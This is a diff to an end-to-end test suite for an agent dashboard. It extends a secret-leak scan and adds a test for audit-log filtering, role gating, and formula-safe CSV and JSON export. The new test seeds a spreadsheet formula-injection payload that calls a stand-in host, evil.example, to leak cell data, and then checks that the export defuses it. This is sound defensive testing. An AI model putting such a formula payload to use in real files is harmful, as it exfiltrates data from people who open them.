@@ -125,6 +125,7 @@ test('no secret value appears in any page, route, header, log line or cluster Ev
   const hits: string[] = [];
   let responses = 0;
   let bytes = 0;
+  let images = 0;
   const scan = (where: string, text: string) => {
     bytes += text.length;
     for (const m of markers) if (text.includes(m)) hits.push(`${where}: ${m.slice(0, 6)}…`);
@@ -146,6 +147,7 @@ test('no secret value appears in any page, route, header, log line or cluster Ev
       for (const p of pages.filter((t) => t.includes('['))) await visit(ctx, fillTemplate(p, a), role);
       for (const r of routes.filter((x) => x.method === 'GET' && x.template.includes('['))) await visit(ctx, fillTemplate(r.template, a) + queryFor(r.route, f.pod), role);
       for (const img of f.images) {
+        images++;
         await visit(ctx, img, role);
         await visit(ctx, img.replace('/thumbnail?', '/file?'), role);
       }
@@ -163,7 +165,7 @@ test('no secret value appears in any page, route, header, log line or cluster Ev
   const events = await control.call<{ items: unknown[] }>('GET', '/api/v1/events');
   await control.close();
   scan('cluster events', JSON.stringify(events));
-  console.log(`secret scan: ${markers.length} markers, ${responses} responses (${(bytes / 1e6).toFixed(1)} MB with the log and ${events.items.length} events): ${hits.length} hits`);
+  console.log(`secret scan: ${markers.length} markers, ${responses} responses (${images} images, ${(bytes / 1e6).toFixed(1)} MB with the log and ${events.items.length} events): ${hits.length} hits`);
   expect(hits).toEqual([]);
   // The scan looked at real content: the log has audit lines or requests, the pages had agents.
   expect(responses).toBeGreaterThan(agents.length * 5);
@@ -305,4 +307,64 @@ test('Impersonate-* headers from a browser never reach the cluster', async ({ br
   expect(fleet.clusters.every((c: { error: string | null }) => c.error === null)).toBe(true);
   expect(fleet.agents.length).toBeGreaterThan(3);
   console.log(`impersonation headers: ${checked} pages and routes answered as without them`);
+});
+
+test('the audit trail: operators read and filter it, admins export it as formula-safe CSV and JSON', async ({ browser, page }) => {
+  const [agent] = await codexAgents();
+  const control = cluster();
+  const user = `=HYPERLINK("http://evil.example/?"&A1,"click") ${Date.now()}`;
+  // An entry as logActivity writes it, with a name a spreadsheet would run as a formula.
+  await control.call('POST', `/api/v1/namespaces/${agent.namespace}/events`, {
+    metadata: { generateName: `${agent.name}.`, namespace: agent.namespace, annotations: { 'openab.dev/audit': JSON.stringify({ user: { name: user, email: null, role: 'operator' }, action: 'restart', result: 'failure' }) } },
+    involvedObject: { apiVersion: 'apps/v1', kind: 'Deployment', name: agent.name, namespace: agent.namespace },
+    reason: 'OpenABDashboardAction',
+    message: `${user} (operator): restart failure`,
+    type: 'Warning',
+    source: { component: 'openab-dashboard' },
+    lastTimestamp: new Date().toISOString(),
+    count: 1,
+  });
+  await control.close();
+
+  await signIn(page, 'operator');
+  await expect(page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Audit' })).toBeVisible();
+  await page.goto('/audit');
+  await expect(page.getByTestId('audit-expiry-note')).toContainText('one hour');
+  await expect(page.getByTestId('export-disabled')).toContainText('Admin role');
+  await page.getByLabel('Agent').selectOption(`${CLUSTER_ID}/${agent.namespace}/${agent.name}`);
+  await page.getByLabel('Action').selectOption('restart');
+  await page.getByLabel('Result').selectOption('failure');
+  await page.getByLabel('User').fill('evil.example');
+  await page.getByRole('button', { name: 'Filter' }).click();
+  await expect(page).toHaveURL(/result=failure/);
+  await expect(page.getByTestId('audit-row')).toHaveCount(1);
+  await expect(page.getByTestId('audit-row')).toContainText(user);
+  expect((await page.request.get('/api/audit/export?format=csv')).status()).toBe(403);
+
+  const admin = await browser.newPage();
+  await signIn(admin, 'admin');
+  await admin.goto(`/audit?user=${encodeURIComponent('evil.example')}`);
+  const [download] = await Promise.all([admin.waitForEvent('download'), admin.getByTestId('export-csv').click()]);
+  expect(download.suggestedFilename()).toMatch(/^openab-audit-[\dTZ-]+\.csv$/);
+  const csv = readFileSync((await download.path())!, 'utf8');
+  const lines = csv.trimEnd().split('\r\n');
+  expect(lines[0]).toBe('time,cluster,namespace,agent,user,role,action,result,before,after,message');
+  expect(lines).toHaveLength(2);
+  expect(lines[1]).toContain(`"'=HYPERLINK(`);
+  expect(lines[1]).not.toMatch(/(^|,)"?=/);
+  const json = await admin.request.get(`/api/audit/export?format=json&user=${encodeURIComponent('evil.example')}`);
+  expect(json.headers()['content-disposition']).toMatch(/^attachment; filename="openab-audit-[\dTZ-]+\.json"$/);
+  expect(json.headers()['content-type']).toContain('application/json');
+  const body = await json.json();
+  expect(body.entries).toHaveLength(1);
+  expect(body.entries[0]).toMatchObject({ user, action: 'restart', result: 'failure', agent: agent.name });
+  expect((await admin.request.get('/api/audit/export?format=xml')).status()).toBe(400);
+  await admin.close();
+
+  const viewer = await browser.newPage();
+  await signIn(viewer, 'viewer');
+  await expect(viewer.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Audit' })).toHaveCount(0);
+  await viewer.goto('/audit');
+  await expect(viewer).toHaveURL(/denied=1/);
+  await viewer.close();
 });
